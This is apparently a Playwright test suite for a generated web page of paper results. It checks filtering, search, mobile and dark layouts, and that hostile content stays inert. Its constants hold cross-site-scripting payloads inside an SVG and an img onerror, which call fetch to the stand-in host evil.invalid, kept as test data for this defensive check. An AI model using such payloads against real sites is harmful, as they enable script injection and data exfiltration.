"""The page of a paper in a real browser: it filters, searches, fits small screens, and runs nothing of others."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest
from papers_helpers import fill
from PIL import Image
from test_pages import hostile

from normless_papers.pages.site import write_pages_of
from normless_papers.published import published
from normless_papers.results.storage import FIGURE, save, stored

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

STEAL = "document.title='stolen';fetch('http://evil.invalid/x')"
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9" width="9pt" onload="{STEAL}">
<script>{STEAL}</script>
<image href="http://evil.invalid/a.png" width="9" height="9" onerror="{STEAL}"/>
<style>@import url(http://evil.invalid/a.css);</style>
<rect width="9" height="9" style="fill: url(http://evil.invalid/c.svg#p)"/></svg>"""
SHOWN = "[...document.querySelectorAll('article')].filter(card => card.checkVisibility()).map(card => card.id)"
OPENED = "document.querySelectorAll('details').forEach(details => details.open = true)"
Open = Callable[..., "Page"]


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("page")
    fill(folder, [name for name in published() if name.startswith("fixup/")])
    write_pages_of(folder)
    return folder


@pytest.fixture
def opened(browser: Browser, folder: Path) -> Iterator[Open]:
    """Opens the page with settings of the browser; any complaint or request of the browser fails the test."""
    contexts, complaints = [], list[str]()

    def open_page(fragment: str = "", **settings: Any) -> Page:
        context = browser.new_context(**{"viewport": {"width": 1280, "height": 900}} | settings)
        contexts.append(context)
        context.set_default_timeout(10_000)
        page = context.new_page()
        page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("request", lambda sent: sent.url.startswith(("file:", "data:")) or complaints.append(sent.url))
        page.goto((folder / "fixup.html").as_uri() + fragment)
        return page

    yield open_page
    for context in contexts:
        context.close()
    assert complaints == []


def test_it_filters_searches_and_opens_what_links_lead_to(opened: Open, folder: Path) -> None:
    page, results = opened(), list(stored(folder))
    everything = {result.id for result in results}
    assert {*page.evaluate(SHOWN)} == everything
    page.get_by_role("button", name="Open all").click()
    images = page.locator("figure img")
    assert images.count() == len(results)
    decoded = "images => Promise.all(images.map(image => image.decode().then(() => image.naturalWidth)))"
    assert min(images.evaluate_all(decoded)) > 100
    page.get_by_role("button", name="Close all").click()
    assert not any(image.is_visible() for image in page.locator("article img").all())
    # Kind, verdict and budget are those of one result.
    page.get_by_label("Budget", exact=True).select_option("small")
    page.get_by_label("Verdict", exact=True).select_option("reproduced")
    fits = {result.id for result in results if (result.budget, result.verdict) == ("small", "reproduced")}
    assert 0 < len(fits) < len(everything)
    assert {*page.evaluate(SHOWN)} == fits
    assert page.get_by_role("status").inner_text() == f"{len(fits)} of {len(everything)} artefacts"
    page.get_by_role("button", name="Reset").click()
    page.wait_for_function(f"document.querySelector('[role=status]').textContent.startsWith('{len(everything)} of')")
    page.get_by_label("Search").fill("FIXUP table-2")
    texts = page.evaluate("[...document.querySelectorAll('article')].map(card => [card.id, card.textContent])")
    found = {name for name, text in texts if "fixup" in text.lower() and "table-2" in text.lower()}
    assert {"fixup/table-2"} <= {*page.evaluate(SHOWN)} <= found < everything
    page.locator("article[id='fixup/table-2'] summary").first.click()
    page.locator("article[id='fixup/table-2']").get_by_role("link", name="fixup/table-1", exact=True).first.click()
    target = page.locator("article[id='fixup/table-1']")
    target.locator("figure").first.wait_for(state="visible")
    assert target.locator("summary").first.evaluate("summary => summary === document.activeElement")


def test_it_fits_small_and_dark_screens_and_needs_no_script(opened: Open) -> None:
    page = opened(viewport={"width": 390, "height": 800})
    page.evaluate(OPENED)
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    plain = opened(java_script_enabled=False)
    assert not plain.locator("form").is_visible()
    plain.locator("article summary").first.click()
    assert plain.locator("article figure").first.is_visible()
    means = []
    for scheme in ("light", "dark"):
        page = opened("#fixup/table-1", color_scheme=scheme)
        picture = page.locator("article[id='fixup/table-1'] figure img").first.screenshot()
        means.append(np.asarray(Image.open(io.BytesIO(picture)).convert("L"), dtype=float).mean())
    assert means[0] > 200
    assert means[1] < 80


@pytest.mark.parametrize("inside", [False, True], ids=["as a result", "in the page itself"])
def test_a_hostile_result_runs_and_loads_nothing(browser: Browser, tmp_path: Path, inside: bool) -> None:
    """A script in a text or a figure does not run; the page's policy alone holds too."""
    (save(hostile(), None, tmp_path) / FIGURE).write_text(SVG)
    _, path = write_pages_of(tmp_path)
    if inside:
        planted = f'<main>{SVG}<script>{STEAL}</script><img src=x onerror="{STEAL}">'
        path.write_text(path.read_text("utf-8").replace("<main>", planted, 1))
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: request.failure == "csp" and asked.remove(request.url))
    page.goto(path.as_uri())
    page.evaluate(OPENED)
    page.wait_for_load_state("networkidle")
    assert page.title() != "stolen"
    assert {url for url in asked if not url.startswith("data:")} == {path.as_uri()}
    # The page's own script runs.
    assert page.get_by_role("status").inner_text() == "1 of 1 artefacts"
